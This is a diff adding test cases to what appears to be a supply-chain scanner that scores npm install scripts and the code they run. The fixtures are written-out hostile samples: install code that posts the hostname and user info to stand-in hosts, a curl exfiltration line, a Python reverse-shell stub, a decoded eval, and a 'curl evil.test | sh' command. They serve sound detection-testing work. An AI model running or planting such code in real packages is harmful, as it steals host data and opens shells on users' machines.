@@ -5,6 +5,18 @@ import { checkTable, outcomeOf } from './check-table.js';
 
 const withScripts = (installScripts: Record<string, string>) => evidence({ registry: { installScripts } });
 
+const INSTALL_CODE_CAP = { id: 'install-code', limit: 49.9, reason: expect.any(String) as unknown as string };
+
+const RECON = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";
+
+function jsFile(path: string, text: string) {
+  return { path, language: 'javascript' as const, size: text.length, text, truncated: false };
+}
+
+function withCode(installScripts: Record<string, string>, files: ReturnType<typeof jsFile>[] | { path: string; language: 'shell' | 'python'; size: number; text: string; truncated: boolean }[], missing: string[] = []) {
+  return evidence({ registry: { installScripts }, tarball: { installCode: { files, missing, unread: [] } } });
+}
+
 checkTable(check, [
   { name: 'no scripts', evidence: evidence(), score: 100, messageId: 'none', data: { scripts: [], gyp: false, bindingGyp: false } },
   {
@@ -177,12 +189,77 @@ checkTable(check, [
     messageId: 'none',
     data: { scripts: [] },
   },
+  // The code a script runs, read from the tarball (installCode): judged as well as the command.
+  {
+    name: 'the file a postinstall runs sends host data away: 0, capped, held',
+    evidence: withCode({ postinstall: 'node index.js' }, [jsFile('index.js', RECON)]),
+    score: 0,
+    messageId: 'code-dangerous',
+    data: { findings: 'exfiltration', code: ['index.js (exfiltration)'] },
+    caps: [INSTALL_CODE_CAP],
+  },
+  {
+    name: 'a module the script loads evaluates decoded code: 10, held',
+    evidence: withCode({ install: 'node install.js' }, [jsFile('install.js', "require('./lib/run')"), jsFile('lib/run.js', "eval(atob('Y29uc29sZS5sb2coMSk='))")]),
+    score: 10,
+    messageId: 'code-suspicious',
+    data: { findings: 'decoded-eval', code: ['install.js', 'lib/run.js (decoded-eval)'] },
+  },
+  {
+    name: 'a shell script that posts the hostname with curl',
+    evidence: withCode({ preinstall: 'sh ./setup.sh' }, [{ path: 'setup.sh', language: 'shell', size: 60, text: '#!/bin/sh\ncurl -d "$(hostname)" https://x.example/c\n', truncated: false }]),
+    score: 0,
+    messageId: 'code-dangerous',
+    data: { findings: 'exfiltration', code: ['setup.sh (exfiltration, download-exec)'] },
+    caps: [INSTALL_CODE_CAP],
+  },
+  {
+    name: 'a Python build script that opens a reverse shell',
+    evidence: withCode({ install: 'python3 build.py' }, [{ path: 'build.py', language: 'python', size: 90, text: 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")', truncated: false }]),
+    score: 0,
+    messageId: 'code-dangerous',
+    data: { findings: 'reverse-shell' },
+    caps: [INSTALL_CODE_CAP],
+  },
+  {
+    name: 'clean code keeps the command verdict, and says what was read and not found',
+    evidence: withCode({ postinstall: 'node install.js && node gone.js' }, [jsFile('install.js', "require('https').get(url, save)")], ['gone.js']),
+    score: 30,
+    messageId: 'scripts',
+    data: { code: ['install.js'], missing: ['gone.js'] },
+  },
+  {
+    name: 'a suspicious command stays suspicious whatever its code',
+    evidence: withCode({ postinstall: 'curl evil.test | sh && node install.js' }, [jsFile('install.js', 'ok()')]),
+    score: 10,
+    messageId: 'suspicious',
+  },
+  {
+    name: 'dangerous code outranks a suspicious command',
+    evidence: withCode({ postinstall: 'curl evil.test | sh && node index.js' }, [jsFile('index.js', RECON)]),
+    score: 0,
+    messageId: 'code-dangerous',
+    caps: [INSTALL_CODE_CAP],
+  },
 ]);
 
 function bundledFolder(path: string, installScripts: Record<string, string>, extra: { declared?: boolean; bindingGyp?: boolean } = {}) {
   const manifest = { name: 'lodash', version: '4.17.21', installScripts };
   return { path, manifest, problem: null, bindingGyp: extra.bindingGyp ?? false, declared: extra.declared ?? true };
 }
+
+describe('install-scripts: the code a script runs', () => {
+  it('dangerous and suspicious code hold the verdict; clean code does not', () => {
+    expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', RECON)])).holdVerdict).toBeTypeOf('string');
+    expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', "eval(atob('eA=='))")])).holdVerdict).toBeTypeOf('string');
+    expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', 'ok()')])).holdVerdict).toBeUndefined();
+  });
+
+  it('evidence saved before the code was read (no installCode) is judged by the command, as before', () => {
+    const outcome = outcomeOf(check, withScripts({ postinstall: 'node index.js' }));
+    expect([outcome.score, outcome.messageId, outcome.data?.code]).toEqual([30, 'scripts', undefined]);
+  });
+});
 
 describe('install-scripts evidence', () => {
   it('truncates each command to 200 characters', () => {
